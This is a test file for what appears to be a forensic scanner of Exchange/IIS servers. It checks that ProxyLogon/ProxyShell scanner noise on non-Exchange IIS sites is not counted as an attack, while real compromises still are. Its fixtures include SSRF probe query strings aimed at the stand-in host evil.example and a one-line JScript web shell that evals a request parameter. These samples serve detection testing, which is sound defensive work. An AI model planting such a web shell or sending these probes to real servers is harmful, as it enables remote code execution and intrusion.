// Not every IIS site is Exchange: a WordPress-like site next to Exchange receives the same mass
// ProxyLogon/ProxyShell scanner requests and answers them 404. Its requests must not make the server
// attempted; the Exchange site of the same server is judged as before; an Exchange site is still
// Exchange when applicationHost.config says so or its log shows Exchange's own traffic; and a web shell
// on the other site is still a compromise.
import assert from "node:assert/strict";
import { mkdirSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { before, describe, it } from "node:test";
import { writeClean } from "../../examples/generate.js";
import { iisHeader, iisLine, type Req } from "../../examples/iis.js";
import { scan } from "../../src/index.js";
import type { ScanResult, ServerResult } from "../../src/model/types.js";
import { tempDir } from "../helpers.js";

const WINDOW = {
  rowsPerHour: 4,
  from: new Date("2020-12-28T00:00:00Z"),
  to: new Date("2021-03-10T00:00:00Z"),
};
const DAY = "2021-03-05";
const at = (h: number, m = 0) =>
  new Date(`${DAY}T${String(h).padStart(2, "0")}:${String(m).padStart(2, "0")}:07Z`);

function put(root: string, rel: string, data: string): void {
  const abs = join(root, rel);
  mkdirSync(dirname(abs), { recursive: true });
  writeFileSync(abs, data);
}

function site(root: string, id: number, reqs: Req[]): void {
  const body = reqs.map((q) => `${iisLine(q, "10.30.0.10", false, "www.fabrikam.example")}\r\n`).join("");
  put(root, `C/inetpub/logs/LogFiles/W3SVC${id}/u_ex210305.log`, iisHeader(at(0)) + body);
}

/** Mass scanners' ProxyLogon/ProxyShell/ProxyNotShell probes, each answered `status`. */
function probes(status: number): Req[] {
  const ua = "Mozilla/5.0 zgrab/0.x";
  return [
    {
      t: at(1),
      method: "POST",
      stem: "/ecp/y.js",
      ip: "198.51.100.23",
      ua: "python-requests/2.25.1",
      status,
    },
    { t: at(1, 5), method: "POST", stem: "/owa/auth/x.js", ip: "198.51.100.23", ua, status },
    {
      t: at(2),
      method: "GET",
      stem: "/autodiscover/autodiscover.json",
      query: "@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example",
      ip: "198.51.100.99",
      ua,
      status,
    },
    {
      t: at(3),
      method: "POST",
      stem: "/autodiscover/autodiscover.json",
      query: "@evil.example/powershell/?X-Rps-CAT=x&Email=autodiscover/autodiscover.json%3F@evil.example",
      ip: "198.51.100.99",
      ua,
      status,
    },
  ];
}

/** What a PHP site serves its visitors. */
function content(): Req[] {
  const ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64)";
  return [
    { t: at(8), method: "GET", stem: "/index.php", ip: "192.0.2.10", ua, status: 200 },
    {
      t: at(8, 1),
      method: "GET",
      stem: "/wp-content/themes/site/style.css",
      ip: "192.0.2.10",
      ua,
      status: 200,
    },
    { t: at(9), method: "GET", stem: "/blog/2021/03/news/", ip: "192.0.2.11", ua, status: 200 },
  ];
}

/** applicationHost.config with the Default Web Site, the Exchange Back End and one more site. */
function config(third: { name: string; apps: string[] }): string {
  const apps = (list: string[]) =>
    list
      .map(
        (p) =>
          `      <application path="${p}" applicationPool="Pool"><virtualDirectory path="/" physicalPath="C:\\sites${p.replaceAll("/", "\\")}" /></application>`,
      )
      .join("\n");
  return `<?xml version="1.0" encoding="UTF-8"?>
<configuration>
  <system.applicationHost>
    <sites>
      <site name="Default Web Site" id="1">
${apps(["/", "/owa", "/ecp", "/EWS", "/Microsoft-Server-ActiveSync"])}
      </site>
      <site name="Exchange Back End" id="2">
${apps(["/", "/owa", "/ecp", "/PowerShell"])}
      </site>
      <site name="${third.name}" id="3" serverAutoStart="true">
${apps(third.apps)}
        <bindings><binding protocol="https" bindingInformation="*:8443:" /></bindings>
      </site>
    </sites>
  </system.applicationHost>
</configuration>
`;
}

const CONFIG = "C/Windows/System32/inetsrv/config/applicationHost.config";

function server(result: ScanResult, name: string): ServerResult {
  const s = result.servers.find((x) => x.name === name);
  assert.ok(s, `${name} scanned`);
  return s;
}

const fromSite = (s: ServerResult, id: number) =>
  s.findings.filter((f) => f.source.file?.includes(`/W3SVC${id}/`));

describe("scenario suite: IIS sites that are not Exchange", () => {
  let result: ScanResult;
  before(async () => {
    const dir = tempDir({ after: (fn) => process.on("exit", fn) });
    // 1. WordPress-like site (W3SVC3) scanned for ProxyLogon/ProxyShell, every probe 404: clean server.
    writeClean(join(dir, "WPONLY"), WINDOW);
    site(join(dir, "WPONLY"), 3, [...probes(404), ...content()]);
    // 2. The same, and the Exchange site (W3SVC1) scanned too: attempted from W3SVC1 alone.
    writeClean(join(dir, "BOTH"), WINDOW);
    site(join(dir, "BOTH"), 3, [...probes(404), ...content()]);
    site(join(dir, "BOTH"), 1, probes(404));
    // 3. Trap: an Exchange site on W3SVC3 with only scanner noise, no logins; the config says Exchange.
    writeClean(join(dir, "CONFIGEX"), WINDOW);
    site(join(dir, "CONFIGEX"), 3, [...probes(404), ...content()]);
    put(join(dir, "CONFIGEX"), CONFIG, config({ name: "Exchange Partner", apps: ["/", "/owa", "/ecp"] }));
    // 3b. The config says W3SVC3 is a plain site: no Exchange check applies to it.
    writeClean(join(dir, "CONFIGWP"), WINDOW);
    site(join(dir, "CONFIGWP"), 3, [...probes(200), ...content()]);
    put(join(dir, "CONFIGWP"), CONFIG, config({ name: "Intranet", apps: ["/", "/wiki"] }));
    // 4. Trap: an Exchange site (W3SVC5, no config) whose 404s are real probe failures: its health
    //    probes and a signed-in user show it is Exchange.
    writeClean(join(dir, "PROBED"), WINDOW);
    site(join(dir, "PROBED"), 5, [
      ...probes(404),
      ...content(),
      {
        t: at(10),
        method: "GET",
        stem: "/owa/",
        user: "FABRIKAM\\HealthMailbox0b7f2c",
        ip: "127.0.0.1",
        ua: "AMProbe/Local/ClientAccess",
        status: 200,
      },
    ]);
    // 5. Trap: the non-Exchange site serves a web shell (answered 200) and the file is on disk.
    const shelled = join(dir, "SHELLED");
    writeClean(shelled, WINDOW);
    site(shelled, 3, [
      ...probes(404),
      ...content(),
      {
        t: at(11),
        method: "POST",
        stem: "/uploads/help.aspx",
        ip: "203.0.113.50",
        ua: "Mozilla/5.0",
        status: 200,
      },
    ]);
    put(
      shelled,
      "C/inetpub/wordpress/uploads/help.aspx",
      '<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>',
    );
    result = await scan([dir], { each: true, workers: 0 });
  });

  it("a PHP site scanned for ProxyLogon/ProxyShell (all 404) does not make the server attempted", () => {
    const s = server(result, "WPONLY");
    assert.equal(s.verdict, "clean", s.reasons.join(" | "));
    const note = s.findings.find((f) => f.check === "iis-site-not-exchange");
    assert.equal(note?.evidence.Site, "W3SVC3");
    assert.match(note?.evidence.Reason ?? "", /no Exchange sign.*404.*3 other requests/);
    const probed = fromSite(s, 3).filter((f) => /proxylogon|proxyshell|proxynotshell/.test(f.check));
    assert.ok(probed.length >= 4, "the probes are still listed");
    assert.ok(
      probed.every((f) => f.effect === "info" && f.evidence.NotApplicable),
      "and weigh nothing",
    );
    assert.ok(!s.findings.some((f) => f.check.startsWith("proxylogon-ssrf")), "no correlation from W3SVC3");
  });

  it("the Exchange site of the same server is still judged: attempted from W3SVC1 only", () => {
    const s = server(result, "BOTH");
    assert.equal(s.verdict, "attempted", s.reasons.join(" | "));
    const attempts = s.findings.filter((f) => f.effect === "attempt");
    assert.ok(attempts.length > 0);
    assert.ok(!attempts.some((f) => f.source.file?.includes("/W3SVC3/")), "nothing from W3SVC3 weighs");
    assert.ok(
      fromSite(s, 1).some((f) => f.check === "iis-proxylogon-request-failed" && f.effect === "attempt"),
    );
    assert.deepEqual(
      s.findings.filter((f) => f.check === "iis-site-not-exchange").map((f) => f.evidence.Site),
      ["W3SVC3"],
    );
  });

  it("trap: a site applicationHost.config gives Exchange virtual directories is Exchange, scanner noise only", () => {
    const s = server(result, "CONFIGEX");
    assert.equal(s.verdict, "attempted", s.reasons.join(" | "));
    assert.ok(!s.findings.some((f) => f.check === "iis-site-not-exchange"));
  });

  it("a site applicationHost.config gives no Exchange virtual directory is not Exchange, whatever it answered", () => {
    const s = server(result, "CONFIGWP");
    assert.equal(s.verdict, "clean", s.reasons.join(" | "));
    const note = s.findings.find((f) => f.check === "iis-site-not-exchange");
    assert.equal(note?.evidence.SiteName, "Intranet");
    assert.match(note?.evidence.Reason ?? "", /applicationHost\.config/);
  });

  it("trap: an Exchange site whose probes failed with 404 still gives attempted (its health probes show Exchange)", () => {
    const s = server(result, "PROBED");
    assert.equal(s.verdict, "attempted", s.reasons.join(" | "));
    assert.ok(!s.findings.some((f) => f.check === "iis-site-not-exchange"));
  });

  it("trap: a web shell answered 200 on the non-Exchange site is still a compromise", () => {
    const s = server(result, "SHELLED");
    assert.equal(s.verdict, "compromised", s.reasons.join(" | "));
    assert.ok(s.findings.some((f) => f.check === "iis-site-not-exchange" && f.evidence.Site === "W3SVC3"));
    assert.ok(s.findings.some((f) => f.effect === "compromise" && /help\.aspx/.test(JSON.stringify(f))));
  });
});
